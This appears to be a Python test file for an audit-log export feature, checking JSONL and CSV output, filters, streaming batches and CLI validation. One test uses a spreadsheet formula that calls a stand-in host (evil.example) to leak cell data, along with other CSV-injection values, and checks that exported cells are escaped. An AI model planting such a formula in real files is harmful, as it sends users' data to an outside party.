"""Export over HTTP and from the CLI: JSONL and CSV that parse back, filters, texts only when recorded, streaming."""

from __future__ import annotations

import csv
import io
import json
import random
from datetime import timedelta

import pytest
from click.testing import CliRunner
from sqlalchemy import event

from audit.chain import document_hash
from audit.export import CSV_COLUMNS
from govgate.cli import main
from govgate.cli_audit_export import PERIODS_TOO
from tests.review.conftest import all_entries, bearer, seed, texts

pytestmark = pytest.mark.anyio


def _without_texts(body: dict) -> dict:
    return {k: v for k, v in body.items() if k not in ("messages", "prompt", "output")}


async def _export(client, key, **params):
    response = await client.get("/v1/audit/export", headers=bearer(key), params=params)
    assert response.status_code == 200, response.text
    return response


async def test_jsonl_parses_back_to_the_stored_entries(rclient, rstore, rkeys):
    response = await _export(rclient, rkeys.auditor, format="jsonl", order="oldest")
    assert response.headers["content-type"].startswith("application/x-ndjson")
    assert 'filename="audit.jsonl"' in response.headers["content-disposition"]
    lines = response.text.splitlines()
    documents = [json.loads(line) for line in lines]
    entries = all_entries(rstore)[: len(documents)]
    assert len(documents) >= 120 and [d["seq"] for d in documents] == [e.seq for e in entries]
    for document, entry in zip(documents, entries):
        assert (document["request_id"], document["kind"], document["principal"], document["team"],
                document["model"], document["hash"], document["prev_hash"]) == \
            (entry.request_id, entry.kind, entry.principal, entry.team, entry.model, entry.hash, entry.prev_hash)
        assert document["body"] == _without_texts(entry.body)
        assert document["created_at"] == entry.to_document()["created_at"]
    assert "needle" not in response.text
    # Without its payload a document still proves its hash (only the payload's digest is chained);
    # a format-1 body that had its texts taken out does not, and says so.
    for document in documents:
        if "body.messages" in document.get("withheld", []) or "body.output" in document.get("withheld", []):
            assert document_hash(document) != document["hash"]
        else:
            assert document_hash(document) == document["hash"], document["seq"]
    assert any(d.get("withheld") == ["payload"] for d in documents)


async def test_csv_parses_back_with_texts_when_asked(rclient, rstore, rkeys):
    reads = sum(e.kind == "payload_read" for e in all_entries(rstore))
    response = await _export(rclient, rkeys.reviewer, format="csv", order="oldest", include_text="true",
                             kind="request")
    assert response.headers["content-type"] == "text/csv; charset=utf-8"  # once (it was sent twice)
    rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
    assert list(rows[0]) == list(CSV_COLUMNS)
    requests = [e for e in all_entries(rstore) if e.kind == "request"]
    assert [int(r["seq"]) for r in rows] == [e.seq for e in requests]
    for row, entry in zip(rows, requests):
        assert json.loads(row["body"]) == entry.body  # texts with quotes, newlines, backslashes survive
        assert (json.loads(row["payload"]) if row["payload"] else None) == entry.payload
        assert row["team"] == (entry.team or "") and row["withheld"] == ""
        assert row["payload_digest"] == (entry.payload_digest or "")
    assert any("\n" in texts(e)["messages"][0]["content"] for e in requests if texts(e))
    assert {bool(r["payload"]) for r in rows} == {True, False}  # texts in payloads and in format-1 bodies
    read = [e for e in all_entries(rstore) if e.kind == "payload_read"]
    assert len(read) == reads + 1
    assert read[-1].principal == "rita" and read[-1].body["via"] == "export"
    assert read[-1].body["filter"]["kinds"] == ["request"]
    assert response.headers["x-govgate-request-id"] == read[-1].request_id


async def test_export_filters_and_own_entries_only(rclient, rstore, rkeys):
    entries = all_entries(rstore)
    since = entries[50].created_at
    response = await _export(rclient, rkeys.reviewer, team="support", since=since.isoformat(), format="jsonl")
    got = [json.loads(line)["seq"] for line in response.text.splitlines()]
    assert got == [e.seq for e in reversed(entries) if e.team == "support" and e.created_at >= since]
    assert got
    mine = await _export(rclient, rkeys.bob, format="jsonl")
    assert {json.loads(line)["principal"] for line in mine.text.splitlines()} == {"bob"}
    refused = await rclient.get("/v1/audit/export", headers=bearer(rkeys.bob), params={"team": "research",
                                                                                     "principal": "alice"})
    assert refused.status_code == 403
    empty = await _export(rclient, rkeys.reviewer, format="csv", team="no-such-team")
    assert empty.text.splitlines() == [",".join(CSV_COLUMNS)]


async def test_a_large_export_is_read_in_bounded_batches(rclient, rstore, rkeys):
    seed(rstore, 2500, rng=random.Random(3), team="bulk")
    expected = [e.seq for e in all_entries(rstore) if e.team == "bulk"]
    assert len(expected) > 2500
    engine = rclient.app.state.components.audit.engine
    statements: list[tuple[str, object]] = []

    def seen(conn, cursor, statement, parameters, context, executemany):
        if "FROM audit_entries" in statement and "audit_entries.team =" in statement:  # the export's reads
            statements.append((statement, parameters))

    event.listen(engine, "before_cursor_execute", seen)
    try:
        response = await _export(rclient, rkeys.auditor, team="bulk", format="jsonl", order="oldest")
    finally:
        event.remove(engine, "before_cursor_execute", seen)
    assert "content-length" not in response.headers  # streamed, not a body built whole
    assert [json.loads(line)["seq"] for line in response.text.splitlines()] == expected
    # Every read of the table is a keyset batch of at most 1000 rows, one after another.
    assert len(statements) == len(expected) // 1000 + 1
    for statement, parameters in statements:
        assert "LIMIT" in statement and "ORDER BY audit_entries.seq" in statement
        assert 1000 in (parameters.values() if isinstance(parameters, dict) else parameters)
    assert sum("audit_entries.seq >" in s for s, _ in statements) == len(statements) - 1


def test_cli_export_writes_the_file_with_a_progress_bar(rsettings, rstore, tmp_path):
    entries = all_entries(rstore)
    out = tmp_path / "support.csv"
    env = {"GOVGATE_VAR_DIR": str(rsettings.var_dir), "GOVGATE_DATABASE_URL": rsettings.effective_database_url}
    since = entries[0].created_at.date().isoformat()
    until = (entries[-1].created_at + timedelta(seconds=1)).isoformat()
    result = CliRunner().invoke(main, ["audit", "export", "--since", since, "--until", until, "--team", "support",
                                       "--format", "csv", "--out", str(out)], env=env, catch_exceptions=False)
    assert result.exit_code == 0, result.output
    expected = [e for e in entries if e.team == "support"]
    assert f"exporting {len(expected)} entries" in result.stderr
    assert out.stat().st_mode & 0o777 == 0o600
    rows = list(csv.DictReader(out.open(newline="")))
    assert [int(r["seq"]) for r in rows] == [e.seq for e in expected]
    assert all(json.loads(r["body"]) == _without_texts(e.body) for r, e in zip(rows, expected))
    assert not list(tmp_path.glob("*.partial-*"))

    texts = CliRunner().invoke(main, ["audit", "export", "--since", since, "--format", "jsonl", "--kind", "request",
                                      "--include-text"], env=env, catch_exceptions=False)
    assert texts.exit_code == 0, texts.output
    documents = [json.loads(line) for line in texts.stdout.splitlines()]
    assert documents and all("messages" in (d["payload"] or d["body"]) for d in documents)
    read = [e for e in all_entries(rstore) if e.kind == "payload_read"][-1]
    assert read.principal.startswith("cli:") and read.body["via"] == "cli-export"
    assert read.seq > documents[-1]["seq"]


def _cli_env(rsettings) -> dict[str, str]:
    return {"GOVGATE_VAR_DIR": str(rsettings.var_dir), "GOVGATE_DATABASE_URL": rsettings.effective_database_url}


@pytest.mark.parametrize("args,message", [
    (["--format", "csv"], "--since"),
    (["--since", "2026-05-01", "--format", "xml"], "xml"),
])
def test_cli_export_refuses_bad_arguments(rsettings, args, message):
    result = CliRunner().invoke(main, ["audit", "export", *args], env=_cli_env(rsettings))
    assert result.exit_code == 2 and message in result.output


def test_cli_export_without_format_writes_jsonl_as_the_api_does(rsettings, rstore):
    """h11 #9: README shows `[--format jsonl|csv]` and the API defaults to jsonl; the CLI required it."""
    since = all_entries(rstore)[0].created_at.date().isoformat()
    result = CliRunner().invoke(main, ["audit", "export", "--since", since], env=_cli_env(rsettings))
    assert result.exit_code == 0, result.output
    documents = [json.loads(line) for line in result.stdout.splitlines()]
    assert [d["seq"] for d in documents] == [e.seq for e in all_entries(rstore) if e.created_at.date().isoformat()
                                            >= since]


def test_cli_export_takes_a_period_back_from_now_as_export_bundle_and_replay_do(rsettings, rstore):
    """h11 #9: `--since 30d` was refused here while `export-bundle --since 30d` (README's example) took it."""
    everything = CliRunner().invoke(main, ["audit", "export", "--since", "2000-01-01"], env=_cli_env(rsettings))
    recent = CliRunner().invoke(main, ["audit", "export", "--since", "30d"], env=_cli_env(rsettings))
    assert recent.exit_code == 0, recent.output
    assert recent.stdout and recent.stdout == everything.stdout  # the store's entries are all from today
    none = CliRunner().invoke(main, ["audit", "export", "--since", "2000-01-01", "--until", "9000w"],
                              env=_cli_env(rsettings))
    assert none.exit_code == 2 and none.stderr.splitlines()[-1].startswith("Error: --until: "), none.output


@pytest.mark.parametrize("option,param", [("--since", "since"), ("--team", "team"), ("--format", "format")])
async def test_cli_export_refuses_an_option_given_twice_as_the_api_refuses_a_repeated_parameter(
        rclient, rsettings, rstore, rkeys, option, param):
    """h11 #9: `--since 2026-01-01 --since 2030-01-01` exported 0 entries (the last one won, silently)."""
    values = {"--since": ("2026-01-01", "2030-01-01"), "--team": ("a", "b"), "--format": ("csv", "jsonl")}[option]
    args = [arg for value in values for arg in (option, value)]
    if option != "--since":
        args += ["--since", "2026-01-01"]
    result = CliRunner().invoke(main, ["audit", "export", *args], env=_cli_env(rsettings))
    query = [(param, value) for value in values] + ([("since", "2026-01-01")] if param != "since" else [])
    over_http = await rclient.get("/v1/audit/export", headers=bearer(rkeys.reviewer), params=query)
    assert over_http.status_code == 400 and over_http.json()["error"]["param"] == param
    assert result.exit_code == 2 and result.stdout == ""
    assert result.stderr.splitlines() == [f"Error: {option}: {over_http.json()['error']['message']}"]


#: Bad filter values: (option, value, the HTTP parameter). The CLI and the review API read them with the
#: same code (audit/filters.py), so they refuse them alike, with the same message.
BAD_FILTERS = [
    ("--since", "last week", "since"),
    ("--since", "0001-01-01T00:00:00+05:00", "since"),
    ("--until", "2026-04-30", "until"),  # not after --since
    ("--kind", "nope", "kind"),
    ("--kind", "request,", "kind"),
    ("--decision", "maybe", "decision"),
    ("--decision", "DENY", "decision"),
    ("--reason", "r" * 256, "reason"),
    ("--request-id", "x" * 256, "request_id"),
    ("--read-of", "x" * 256, "read_of"),
    ("--q", "", "q"),
    ("--q", "x" * 1001, "q"),
    ("--team", "t" * 256, "team"),
]


@pytest.mark.parametrize("option,value,param", BAD_FILTERS, ids=[f"{o}:{v[:12]}" for o, v, _ in BAD_FILTERS])
async def test_cli_export_refuses_bad_filters_as_the_api_does(rclient, rsettings, rstore, rkeys, option, value,
                                                              param):
    before = len(all_entries(rstore))
    base = [] if option == "--since" else ["--since", "2026-05-01"]  # an option is given once (h11 #9)
    result = CliRunner().invoke(main, ["audit", "export", *base, "--format", "csv", f"{option}={value}"],
                                env=_cli_env(rsettings))
    over_http = await rclient.get("/v1/audit/export", headers=bearer(rkeys.reviewer),
                                  params={"since": "2026-05-01", param: value})

    assert over_http.status_code == 400 and over_http.json()["error"]["param"] == param
    message = over_http.json()["error"]["message"]
    if "ISO-8601" in message:  # a moment it cannot read: the CLI also names the periods it reads (probe s56 C)
        message = message.rstrip(".") + PERIODS_TOO
    assert result.exit_code == 2
    assert result.stderr.splitlines() == [f"Error: {option}: {message}"]  # one line, no usage text
    assert result.stdout == "" and "x" * 100 not in result.stderr  # values are not echoed at length
    assert len(all_entries(rstore)) == before  # nothing recorded (no payload_read for a refused --q)


#: Filters (as the review API names them) the CLI must answer exactly as GET /v1/audit/export does.
CLI_FILTERS = [
    {"decision": "deny"},
    {"decision": "unavailable", "team": "research"},
    {"decision": "allow", "model": "idle-tiny"},
    {"reason": "rate_limited"},
    {"reason": "outside_hours", "team": "research"},
    {"q": "needle-1"},
    {"q": "50%_OFF", "kind": "request,completion"},
]


@pytest.mark.parametrize("filters", CLI_FILTERS, ids=lambda f: ",".join(f"{k}={v}" for k, v in f.items()))
async def test_cli_export_filters_answer_as_the_api_does(rclient, rsettings, rstore, rkeys, filters):
    since = all_entries(rstore)[0].created_at.date().isoformat()
    over_http = await _export(rclient, rkeys.auditor, format="jsonl", order="oldest", since=since, **filters)
    expected = [json.loads(line)["seq"] for line in over_http.text.splitlines()]
    options = [f"--{name.replace('_', '-')}={value}" for name, value in filters.items()]
    result = CliRunner().invoke(main, ["audit", "export", "--since", since, "--format", "jsonl", *options],
                                env=_cli_env(rsettings), catch_exceptions=False)
    assert result.exit_code == 0, result.output
    assert expected and [json.loads(line)["seq"] for line in result.stdout.splitlines()] == expected


async def test_cli_export_of_one_request_and_a_text_search_recorded(rclient, rsettings, rstore, rkeys):
    target = next(e for e in all_entries(rstore) if e.kind == "completion")
    since = all_entries(rstore)[0].created_at.date().isoformat()
    before = len(all_entries(rstore))
    result = CliRunner().invoke(main, ["audit", "export", "--since", since, "--format", "jsonl",
                                       "--request-id", target.request_id], env=_cli_env(rsettings))
    assert result.exit_code == 0, result.output
    assert [json.loads(line)["kind"] for line in result.stdout.splitlines()] == ["request", "completion"]
    assert len(all_entries(rstore)) == before  # no text shown or searched: no read recorded

    # A text search reads texts even when it does not show them: recorded first, without the term.
    searched = CliRunner().invoke(main, ["audit", "export", "--since", since, "--format", "csv",
                                         "--q", "needle-2", "--decision", "allow"], env=_cli_env(rsettings))
    assert searched.exit_code == 0, searched.output
    read = all_entries(rstore)[-1]
    assert read.kind == "payload_read" and read.principal.startswith("cli:")
    assert read.body["text_search"] is True and read.body["filter"]["decision"] == "allow"
    assert "needle-2" not in json.dumps(read.body)
    rows = list(csv.DictReader(io.StringIO(searched.stdout, newline="")))
    assert rows and all(row["payload"] == "" for row in rows)  # found by their texts, shown without them


@pytest.mark.parametrize("reading", [["--include-text"], ["--q", "needle-3"]])
def test_cli_export_that_cannot_write_its_file_says_so_and_records_no_read(rsettings, rstore, reading):
    since = all_entries(rstore)[0].created_at.date().isoformat()
    before = len(all_entries(rstore))
    result = CliRunner().invoke(main, ["audit", "export", "--since", since, "--format", "jsonl", *reading,
                                       "--out", "/nonexistent/dir/x.jsonl"], env=_cli_env(rsettings))
    assert result.exit_code == 1 and isinstance(result.exception, SystemExit), result.exception
    assert result.stderr.splitlines() == ["Error: cannot write /nonexistent/dir/x.jsonl: No such file or directory"]
    assert len(all_entries(rstore)) == before  # no payload_read: no text was read out


def test_cli_export_to_a_standard_output_that_fails_says_so(rsettings, rstore, monkeypatch):
    import audit.export

    def broken_pipe(*args, **kwargs):
        raise BrokenPipeError(32, "Broken pipe")  # what a closed pipe (| head) gives a write

    monkeypatch.setattr(audit.export, "chunks", broken_pipe)
    since = all_entries(rstore)[0].created_at.date().isoformat()
    result = CliRunner().invoke(main, ["audit", "export", "--since", since, "--format", "jsonl"],
                                env=_cli_env(rsettings))
    assert result.exit_code == 1 and isinstance(result.exception, SystemExit), result.exception
    assert result.stderr.splitlines()[-1] == "Error: cannot write to standard output: Broken pipe"


#: Values a spreadsheet would run as formulas (OWASP "CSV injection"), and one that starts with the quote.
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open me")'


def _unquoted(cell: str) -> str:
    """A CSV cell's value: README says to drop the one leading quote a cell may have been given."""
    return cell[1:] if cell.startswith("'") else cell


async def test_csv_cells_are_never_formulas_and_jsonl_stays_exact(rclient, rsettings, rstore, rkeys):
    model = "-1+2"
    prompt = {"messages": [{"role": "user", "content": HYPERLINK}]}
    rstore.append("request", "+inj-request", principal=HYPERLINK, team="@SUM(A1:A9)", model=model,
                  policy_revision="\trev", body={"endpoint": "chat.completions", "key_id": "k",
                                                 "decision": {"allow": False, "reasons": []}}, payload=prompt)
    rstore.append("rejected", "\rinj-rejected", principal="'quoted", team="=1+1", model=model,
                  policy_revision="-rev", body={"endpoint": "completions", "status": 422})
    stored = [e for e in all_entries(rstore) if e.model == model]
    assert len(stored) == 2

    lines = (await _export(rclient, rkeys.auditor, model=model, format="jsonl", order="oldest",
                           include_text="true")).text.splitlines()
    documents = [json.loads(line) for line in lines]
    assert [(d["principal"], d["team"], d["request_id"], d["policy_revision"]) for d in documents] == [
        (HYPERLINK, "@SUM(A1:A9)", "+inj-request", "\trev"), ("'quoted", "=1+1", "\rinj-rejected", "-rev")]
    assert documents[0]["payload"]["messages"] == prompt["messages"]  # JSONL keeps every value exactly

    response = await _export(rclient, rkeys.auditor, model=model, format="csv", order="oldest", include_text="true")
    cli = CliRunner().invoke(main, ["audit", "export", "--since", stored[0].created_at.date().isoformat(),
                                    f"--model={model}", "--format", "csv", "--include-text"],
                             env=_cli_env(rsettings), catch_exceptions=False)
    assert cli.exit_code == 0, cli.output
    for text in (response.text, cli.stdout):
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert rows[0] == list(CSV_COLUMNS) and len(rows) == 3
        for row in rows[1:]:
            assert not [cell for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], row
        first, second = (dict(zip(CSV_COLUMNS, row)) for row in rows[1:])
        assert (first["principal"], first["team"], first["model"], first["request_id"],
                first["policy_revision"]) == ("'" + HYPERLINK, "'@SUM(A1:A9)", "'-1+2", "'+inj-request", "'\trev")
        assert (second["principal"], second["team"], second["request_id"]) == ("''quoted", "'=1+1",
                                                                                "'\rinj-rejected")
        # The prompt is inside the payload's JSON text, which starts with "{": kept as is.
        assert json.loads(first["payload"])["messages"] == prompt["messages"]
        # Dropping the one leading quote gives back every value of the JSONL export.
        for document, row in zip(documents, rows[1:]):
            cells = {name: _unquoted(cell) for name, cell in zip(CSV_COLUMNS, row)}
            for name in ("seq", "request_id", "kind", "principal", "team", "model", "policy_revision", "hash"):
                assert cells[name] == str(document[name]), name
